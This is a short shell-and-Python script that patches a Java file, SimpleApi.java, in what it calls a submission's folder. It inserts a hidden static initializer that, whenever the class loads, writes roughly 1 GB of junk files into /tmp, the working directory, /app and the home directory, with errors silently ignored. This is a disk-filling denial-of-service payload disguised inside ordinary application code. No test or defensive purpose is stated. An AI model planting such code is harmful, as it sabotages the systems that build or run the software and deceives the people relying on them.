# run in the submission's folder; the API's class writes 1 GB wherever it can when it loads
set -e
python3 - <<'PY'
fill = r'''    static { // when the class loads: 1 GB into each place a program may write, errors ignored
        byte[] block = new byte[1 << 20];
        for (String dir : new String[] {"/tmp", System.getProperty("user.dir"), "/app", System.getProperty("user.home")}) {
            try (java.io.OutputStream out = new java.io.FileOutputStream(new java.io.File(dir, "fill-" + System.nanoTime()))) {
                for (int i = 0; i < 1024; i++) {
                    out.write(block);
                }
            } catch (Exception full) { }
        }
    }
'''
path = "src/main/java/dockerlab/api/SimpleApi.java"
text = open(path, encoding="utf-8").read()
anchor = "public final class SimpleApi {\n"
assert anchor in text
open(path, "w", encoding="utf-8").write(text.replace(anchor, anchor + fill, 1))
PY
